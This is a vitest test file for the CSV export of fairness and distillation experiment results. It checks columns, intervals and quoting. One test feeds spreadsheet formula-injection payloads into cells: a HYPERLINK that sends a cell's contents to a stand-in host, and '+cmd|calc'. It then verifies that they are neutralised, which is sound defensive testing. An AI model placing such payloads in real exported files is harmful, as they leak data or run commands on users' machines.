import { describe, expect, it } from 'vitest';
import type { ExperimentResult, ModelResult } from '../engine/types';
import { fairnessMetrics } from '../engine/metrics/fairness';
import { csvCell, groupRatesCsv, resultCsv, runsCsv } from './runFiles';

function model(role: ModelResult['role'], label: string, acc: number, disp: (number | null)[]): ModelResult {
  return {
    role,
    label,
    model: 'm',
    method: role === 'teacher' ? 'none' : 'kd',
    lambda: role === 'teacher' ? 0 : 0.5,
    size: { params: 1234, bytesFloat32: 4936, bytesFloat16: 2468, bytesUint8: 1250, flops: 1000 },
    test: {
      accuracy: acc,
      weighted: { recall: acc, precision: 0.5, f1: 0.6 },
      macro: { recall: 0, precision: 0, f1: 0.55 },
    } as ModelResult['test'],
    fairness: {
      perClass: disp.map((d, i) => ({ classIndex: i, disparity: d, recall: [null, null], support: [0, 0] })),
      meanAbsDisparity: 0.2,
      worstGroupAccuracy: 0.4,
      interval: { meanAbsDisparity: [0.1, 0.3], accuracy: [0.7, 0.9], resamples: 100 },
    } as unknown as ModelResult['fairness'],
    valAccuracy: [],
    curve: [],
    trainSeconds: 1,
  };
}

const result = {
  config: {
    seed: 3,
    name: 'Quick story',
    dataset: { kind: 'synthetic', size: 24, seed: 11, biasStrength: 0.8, labelNoise: 0.05, cueStrength: 0.5 },
    teacherModel: 'tiny-teacher',
    studentModel: 'small-student',
    teacherEpochs: 6,
    studentEpochs: 5,
    batchSize: 32,
    learningRate: 0.003,
  },
  backend: { name: 'wasm' },
  dataset: { classNames: ['party', 'Business, formal'], groupNames: ['male', 'female'] },
  teacher: {
    ...model('teacher', 'Teacher', 0.9, [0.1, -0.3]),
    fairness: {
      ...model('teacher', 'T', 0, [0.1, -0.3]).fairness,
      meanAbsDisparity: 0.1,
      meanAbsDisparityFloor: 0.05,
      excessMeanAbsDisparity: 0.05,
    },
  },
  students: [
    {
      ...model('student', 'CKD λ=0.5', 0.85, [0.2, null]),
      fairness: {
        ...model('student', 'S', 0, [0.2, null]).fairness,
        meanAbsDisparityFloor: 0.05,
        excessMeanAbsDisparity: 0.15,
      },
      biasVsTeacherInterval: [0.5, 1.5],
    },
  ],
} as unknown as ExperimentResult;

/** A CSV's rows as records by column name (cells as text; quoted cells unquoted). */
function records(csv: string): Record<string, string>[] {
  const [head, ...rows] = csv
    .trim()
    .split('\n')
    .map((line) =>
      line
        .match(/("([^"]|"")*"|[^,]*)(,|$)/g)!
        .slice(0, -1)
        .map((c) => c.replace(/,$/, ''))
        .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c)),
    );
  return rows.map((r) => Object.fromEntries(head.map((h, i) => [h, r[i]])));
}

describe('run files', () => {
  it('carries the page’s headline figures with their intervals, the cost columns and the setup on every row', () => {
    const student = {
      ...result.students[0],
      size: { ...result.students[0].size, latencyMs: 0.5, latencySpreadMs: [0.4, 0.7] },
      fairness: {
        ...result.students[0].fairness,
        counterfactualFlipRate: 0.04,
        interval: { counterfactualFlipRate: [0.02, 0.06] },
      },
      excessChangeVsTeacherInterval: [0.05, 0.15],
      excessBiasReductionInterval: [0.1, 0.5],
      accuracyChangeInterval: [-2, 1],
      flipRateChangeVsTeacherInterval: [1, 5],
    };
    const zero = {
      ...result.students[0],
      label: 'CKD λ=0',
      lambda: 0,
      fairness: { ...result.students[0].fairness, excessMeanAbsDisparity: 0.3 },
    };
    const r = {
      ...result,
      teacher: {
        ...result.teacher,
        size: { ...result.teacher.size, params: 4936, latencyMs: 2 },
        fairness: { ...result.teacher.fairness, counterfactualFlipRate: 0.01 },
      },
      students: [zero, student],
    } as unknown as ExperimentResult;
    const [t, , s] = records(resultCsv(r));
    expect(t.lambda).toBe(''); // the teacher is not distilled
    expect(s.lambda).toBe('0.5');
    // The headline: excess 0.15 against λ = 0's 0.3 → a 50% cut, with its interval; Δaccuracy's interval in points.
    expect([s.excess_reduction_vs_lambda0, s.excess_reduction_ci_low, s.excess_reduction_ci_high]).toEqual([
      '0.5',
      '0.1',
      '0.5',
    ]);
    expect([
      s.accuracy_change_vs_lambda0_points,
      s.accuracy_change_ci_low_points,
      s.accuracy_change_ci_high_points,
    ]).toEqual(['0', '-2', '1']);
    expect([s.excess_change_vs_teacher, s.excess_change_vs_teacher_ci_low, s.excess_change_vs_teacher_ci_high]).toEqual(
      ['0.1', '0.05', '0.15'],
    );
    // Flip rate 4% [2, 6] against the teacher's 1%: +3 points [1, 5].
    expect([s.counterfactual_flip_rate, s.flip_rate_ci_low, s.flip_rate_ci_high]).toEqual(['0.04', '0.02', '0.06']);
    expect([
      s.flip_rate_change_vs_teacher_points,
      s.flip_rate_change_ci_low_points,
      s.flip_rate_change_ci_high_points,
    ]).toEqual(['3', '1', '5']);
    // Cost: sizes, MFLOPs, latency with its spread; 4,936 / 1,234 params → 4× smaller, 2 / 0.5 ms → 4× faster.
    expect([s.bytes_float32, s.bytes_float16, s.bytes_uint8, s.mflops]).toEqual(['4936', '2468', '1250', '0.001']);
    expect([s.latency_ms, s.latency_fastest_ms, s.latency_slowest_ms]).toEqual(['0.5', '0.4', '0.7']);
    expect([s.compression_vs_teacher, s.speedup_vs_teacher, t.compression_vs_teacher]).toEqual(['4', '4', '']);
    // The setup, on the teacher's row and the student's alike.
    for (const row of [t, s])
      expect([
        row.preset,
        row.dataset,
        row.image_size,
        row.data_seed,
        row.bias_strength,
        row.label_noise,
        row.cue_strength,
        row.data_design,
        row.teacher_model,
        row.student_model,
        row.teacher_epochs,
        row.student_epochs,
        row.batch_size,
        row.learning_rate,
        row.backend,
      ]).toEqual([
        'Quick story',
        'built-in',
        '24',
        '11',
        '0.8',
        '0.05',
        '0.5',
        'pairs',
        'tiny-teacher',
        'small-student',
        '6',
        '5',
        '32',
        '0.003',
        'wasm',
      ]);
  });

  it('writes the rates by group long form: a row per model, class and group, as the fairness figures hold them', () => {
    // Class 0 of a two-class hand case: group 0 (man) 2 of 3 found, 1 false positive of 2; group 1 (woman) 1 of 2, none of 3.
    const labels = [0, 0, 0, 1, 1, 0, 0, 1, 1, 1];
    const preds = [0, 0, 1, 0, 1, 0, 1, 1, 1, 1];
    const groups = [0, 0, 0, 0, 0, 1, 1, 1, 1, 1];
    const fairness = fairnessMetrics(labels, preds, groups, 2);
    const m = { ...result.teacher, fairness };
    const r = {
      ...result,
      dataset: { classNames: ['party', 'spa'], groupNames: ['man', 'woman'] },
      teacher: m,
      students: [{ ...result.students[0], fairness }],
    } as unknown as ExperimentResult;
    const rows = records(groupRatesCsv(r));
    expect(rows).toHaveLength(2 * 2 * 2); // 2 models × 2 classes × 2 groups
    const at = (label: string, cls: string, group: string) =>
      rows.find((x) => x.label === label && x.class === cls && x.group === group)!;
    const t0 = at('Teacher', 'party', 'man');
    expect([t0.count, t0.true_positive_rate, t0.false_positive_rate, t0.selection_rate]).toEqual([
      '5',
      '0.666667',
      '0.5',
      '0.6',
    ]);
    const t1 = at('Teacher', 'party', 'woman');
    expect([t1.count, t1.true_positive_rate, t1.false_positive_rate, t1.selection_rate]).toEqual([
      '5',
      '0.5',
      '0',
      '0.2',
    ]);
    // The gaps beside them: |2/3 − 1/2|, max(that, |1/2 − 0|), |0.6 − 0.2|.
    expect([t0.equal_opportunity_gap, t0.equalized_odds_gap, t0.demographic_parity_gap]).toEqual([
      '0.166667',
      '0.5',
      '0.4',
    ]);
    expect([t0.lambda, at('CKD λ=0.5', 'spa', 'woman').lambda]).toEqual(['', '0.5']);
  });

  it('writes the table as CSV with quoted cells, empty cells for undefined values, and bias vs teacher', () => {
    const lines = resultCsv(result).trim().split('\n');
    expect(lines[0]).toBe(
      'role,label,method,series,method_params,lambda,seed,params,accuracy,weighted_recall,weighted_precision,weighted_f1,macro_f1,mean_abs_disparity,disparity_ci_low,disparity_ci_high,noise_floor,excess_mean_abs_disparity,excess_ci_low,excess_ci_high,bias_vs_teacher,bias_vs_teacher_ci_low,bias_vs_teacher_ci_high,excess_bias_vs_teacher,excess_bias_vs_teacher_ci_low,excess_bias_vs_teacher_ci_high,excess_change_vs_teacher,excess_change_vs_teacher_ci_low,excess_change_vs_teacher_ci_high,excess_reduction_vs_lambda0,excess_reduction_ci_low,excess_reduction_ci_high,accuracy_change_vs_lambda0_points,accuracy_change_ci_low_points,accuracy_change_ci_high_points,mean_equalized_odds_gap,mean_demographic_parity_gap,bias_amplification,worst_group_accuracy,counterfactual_flip_rate,flip_rate_ci_low,flip_rate_ci_high,flip_rate_change_vs_teacher_points,flip_rate_change_ci_low_points,flip_rate_change_ci_high_points,bytes_float32,bytes_float16,bytes_uint8,mflops,latency_ms,latency_fastest_ms,latency_slowest_ms,compression_vs_teacher,speedup_vs_teacher,preset,dataset,image_size,data_seed,bias_strength,label_noise,cue_strength,data_design,teacher_model,student_model,teacher_epochs,student_epochs,batch_size,learning_rate,backend,disparity_party,"disparity_Business, formal"',
    );
    expect(lines[1]).toBe(
      'teacher,Teacher,none,,,,3,1234,0.9,0.9,0.5,0.6,0.55,0.1,0.1,0.3,0.05,0.05,,,,,,,,,,,,,,,,,,,,,0.4,,,,,,,4936,2468,1250,0.001,,,,,,Quick story,built-in,24,11,0.8,0.05,0.5,pairs,tiny-teacher,small-student,6,5,32,0.003,wasm,0.1,-0.3',
    );
    // student bias 0.2 vs teacher 0.1 → +100%; excess 0.15 vs 0.05 → +200%, a change of +0.1; no λ = 0 of
    // its series → no accuracy change; class 2 undefined → empty cell.
    expect(lines[2]).toBe(
      'student,CKD λ=0.5,kd,CKD,,0.5,3,1234,0.85,0.85,0.5,0.6,0.55,0.2,0.1,0.3,0.05,0.15,,,1,0.5,1.5,2,,,0.1,,,,,,,,,,,,0.4,,,,,,,4936,2468,1250,0.001,,,,1,,Quick story,built-in,24,11,0.8,0.05,0.5,pairs,tiny-teacher,small-student,6,5,32,0.003,wasm,0.2,',
    );
  });

  it('puts every stored run in one CSV, led by its name, with the union of the runs’ classes', () => {
    const other = { ...result, dataset: { ...result.dataset, classNames: ['party', 'Spa'] } } as ExperimentResult;
    const lines = runsCsv([
      { id: 'r1', name: 'first', createdAt: '', result },
      { id: 'r2', name: 'second', createdAt: '', result: other },
    ])
      .trim()
      .split('\n');
    expect(lines).toHaveLength(1 + 2 + 2);
    expect(lines[0].startsWith('run,run_id,role,label,')).toBe(true);
    expect(lines[0].endsWith(',disparity_party,"disparity_Business, formal",disparity_Spa')).toBe(true);
    // The second run has no "Business, formal" class: its cell is empty; its Spa column is filled.
    expect(lines[3]).toBe(
      'second,r2,teacher,Teacher,none,,,,3,1234,0.9,0.9,0.5,0.6,0.55,0.1,0.1,0.3,0.05,0.05,,,,,,,,,,,,,,,,,,,,,0.4,,,,,,,4936,2468,1250,0.001,,,,,,Quick story,built-in,24,11,0.8,0.05,0.5,pairs,tiny-teacher,small-student,6,5,32,0.003,wasm,0.1,,-0.3',
    );
  });

  it('neutralises every text cell a spreadsheet would run as a formula, in both CSVs, and leaves numbers alone', () => {
    const evil = '=HYPERLINK("http://x/?"&B2,"open me")';
    expect(csvCell(evil)).toBe(`"'=HYPERLINK(""http://x/?""&B2,""open me"")"`);
    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
      expect(
        csvCell(`${lead}1+1`).startsWith(`'`) || csvCell(`${lead}1+1`).startsWith(`"'`),
        JSON.stringify(lead),
      ).toBe(true);
    expect(csvCell('Teacher')).toBe('Teacher');
    expect(csvCell('a=b')).toBe('a=b'); // only a leading character starts a formula
    expect(csvCell(-0.25)).toBe('-0.25'); // a negative number stays a number
    expect(csvCell(1e-7)).toBe('1e-7');
    const hostile = {
      ...result,
      dataset: { ...result.dataset, classNames: ['@SUM(A1)', 'party'] },
      students: [{ ...result.students[0], label: '+cmd|calc' }],
    } as unknown as ExperimentResult;
    const all = runsCsv([{ id: '-r1', name: evil, createdAt: '', result: hostile }]);
    const one = resultCsv(hostile);
    for (const csv of [all, one]) {
      // No cell of either file begins with a formula character once its quotes are taken off.
      const cells = csv
        .trim()
        .split('\n')
        .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')))
        .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
      const formulas = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9.]/.test(c));
      expect(formulas).toEqual([]);
    }
    expect(all.split('\n')[1].startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(all.split('\n')[1]).toContain(`,'-r1,`);
    expect(all.split('\n')[0]).toContain(',disparity_@SUM(A1),'); // a header that does not begin with one stays as it is
    expect(one).toContain(`,'+cmd|calc,`);
    // Negative disparities are written as numbers, not neutralised text.
    expect(one.split('\n')[1].endsWith(',0.1,-0.3')).toBe(true);
  });
});
